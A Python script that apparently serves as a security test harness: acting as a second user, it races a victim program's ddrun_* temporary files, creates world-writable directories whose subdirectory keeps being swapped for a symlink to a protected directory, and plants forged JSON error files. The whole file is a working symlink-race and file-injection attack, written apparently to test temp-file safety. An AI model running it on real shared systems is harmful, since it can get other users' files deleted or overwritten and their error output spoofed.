"""tmp_attacker.py PRECIOUS DIRECTORY...: as another user, attack temporary files until SIGTERM, and then report as JSON.

As soon as a ddrun_* name seen in one of the directories is free, the attacker creates it: a directory open to all users,
with a tree whose subdirectory alternates with a symbolic link to PRECIOUS. It also writes a text into every error file whose
name follows from such a name."""

import contextlib
import json
import os
import signal
import sys

NAMES = [f"f{i}" for i in range(40)]  # as the files in PRECIOUS are called
TEXT = json.dumps({"message": {"message": "PLANTED TEXT", "extraInfo": {"py_callstack": "PLANTED TEXT", "timestamp": "1"}}})


def plant_tree(path):
    """False: the name is taken."""
    try:
        os.mkdir(path)
    except OSError:
        return False
    os.chmod(path, 0o777)
    with contextlib.suppress(FileNotFoundError):  # the victim may be removing it already
        for sub in ("a", "b", "c"):
            os.mkdir(f"{path}/{sub}")
            os.chmod(f"{path}/{sub}", 0o777)
            for name in NAMES:
                with open(f"{path}/{sub}/{name}", "w"):
                    pass
    return True


def swap(path, precious):
    with contextlib.suppress(OSError):
        os.rename(f"{path}/b", f"{path}/b.real")
        os.symlink(precious, f"{path}/b")
    with contextlib.suppress(OSError):
        os.unlink(f"{path}/b")
        os.rename(f"{path}/b.real", f"{path}/b")


def plant_text(stem):
    planted = 0
    for path in (f"{stem}.0.json", f"{stem}.1.json", f"{stem}/error.0.json", f"{stem}/error.1.json"):
        with contextlib.suppress(OSError), open(path, "x") as f:
            os.chmod(path, 0o644)
            f.write(TEXT)
            planted += 1
    return planted


def used_by_others(path):
    me = os.getuid()
    return [os.path.join(top, name) for top, subs, files in os.walk(path) if not os.path.islink(top)
            for name in subs + files if os.lstat(os.path.join(top, name)).st_uid != me]


def main():
    precious, places = sys.argv[1], sys.argv[2:]
    over, seen, mine, texts, used = [], set(), set(), 0, set()
    signal.signal(signal.SIGTERM, lambda *_: over.append(True))
    print("ready", flush=True)
    while not over:
        for place in places:
            seen |= {os.path.join(place, name) for name in os.listdir(place) if name.startswith("ddrun_")} - mine
        for path in list(seen):
            if not path.endswith(".json"):
                texts += plant_text(path[:-4] if path.endswith(".mpi") else path)
            if path.endswith(".json"):
                texts += plant_text(path[:-len(".0.json")])
            elif path not in mine and plant_tree(path):
                mine.add(path)
            if path in mine:
                swap(path, precious)
                with contextlib.suppress(OSError):
                    used |= set(used_by_others(path))
    print(json.dumps({"seen": len(seen), "taken": len(mine), "texts": texts, "used": sorted(used)}), flush=True)


main()
